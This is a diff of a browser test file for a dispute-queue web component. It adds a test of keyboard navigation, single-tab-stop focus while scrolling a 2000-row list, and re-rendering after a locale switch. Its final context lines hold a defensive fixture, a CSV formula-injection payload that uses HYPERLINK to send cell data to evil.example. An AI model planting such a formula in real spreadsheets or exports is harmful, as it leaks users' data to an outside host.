@@ -277,6 +277,58 @@ test("the detail: Enter or a click on a row opens the order in <dispute-calculat
   await page.context().close();
 });
 
+test("keyboard in a long list: End, Home, PageDown and arrows move the one tab stop, which stays rendered when scrolled away; a language switch re-renders in place", async () => {
+  const page = await queuePage();
+  await importFile(page, Buffer.from(csvOf(generateItems(2000, { asOf: AS_OF }))));
+  const root = page.locator("dispute-queue");
+  const focused = () => page.evaluate(() => document.querySelector("dispute-queue").shadowRoot.activeElement?.getAttribute("aria-rowindex"));
+  const scrollTop = () => page.evaluate(() => document.querySelector("dispute-queue").shadowRoot.querySelector(".viewport").scrollTop);
+  await root.locator('button.sort[data-column="check"]').focus();
+  await page.keyboard.press("Tab");
+  assert.equal(await focused(), "2");
+  await page.keyboard.press("End");
+  assert.equal(await focused(), "2001");
+  assert.ok((await scrollTop()) > 0, "the last row is scrolled into view");
+  await page.keyboard.press("Home");
+  assert.equal(await focused(), "2");
+  assert.equal(await scrollTop(), 0);
+  // A page: the rows that fit in the viewport, less one.
+  const pageRows = await page.evaluate(() => {
+    const q = document.querySelector("dispute-queue").shadowRoot;
+    return Math.floor(q.querySelector(".viewport").clientHeight / q.querySelector(".qbody .qrow").getBoundingClientRect().height) - 1;
+  });
+  assert.ok(pageRows >= 5, `${pageRows} rows a page`);
+  await page.keyboard.press("PageDown");
+  assert.equal(await focused(), String(2 + pageRows));
+  await page.keyboard.press("ArrowUp");
+  assert.equal(await focused(), String(1 + pageRows));
+  await page.keyboard.press("PageUp");
+  assert.equal(await focused(), "2");
+  await page.keyboard.press("ArrowDown");
+  // Scrolled far away with the mouse: the active row is still the one tab stop, in the DOM.
+  await page.evaluate(() => {
+    document.querySelector("dispute-queue").shadowRoot.querySelector(".viewport").scrollTop = 40000;
+  });
+  await page.waitForFunction(() => [...document.querySelector("dispute-queue").shadowRoot.querySelectorAll(".qbody .qrow")].some((r) => Number(r.getAttribute("aria-rowindex")) > 900));
+  const stops = await page.evaluate(() => [...document.querySelector("dispute-queue").shadowRoot.querySelectorAll(".qbody .qrow[tabindex='0']")].map((r) => r.getAttribute("aria-rowindex")));
+  assert.deepEqual(stops, ["3"]);
+  assert.equal(await focused(), "3");
+  // The language switch: every label re-rendered once the element's update is complete.
+  await page.evaluate(async () => {
+    const q = document.querySelector("dispute-queue");
+    q.setAttribute("locale", "zh-CN");
+    await q.updateComplete;
+  });
+  const zh = await page.evaluate(() => {
+    const q = document.querySelector("dispute-queue").shadowRoot;
+    return ["#list-h", "#count", "#message", "button.sort[data-column='refund']", "#export"].map((s) => q.querySelector(s).textContent);
+  });
+  for (const text of zh) assert.match(text, /[\u4e00-\u9fff]/, zh.join(" | "));
+  assert.equal(await focused(), "3", "the focused row is kept");
+  assert.deepEqual(page.problems, []);
+  await page.context().close();
+});
+
 test("export then re-import gives the same list; hostile cells are shown as text and exported inert", async () => {
   const items = generateItems(300, { asOf: AS_OF, badEvery: 30 });
   items[0].note = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")';
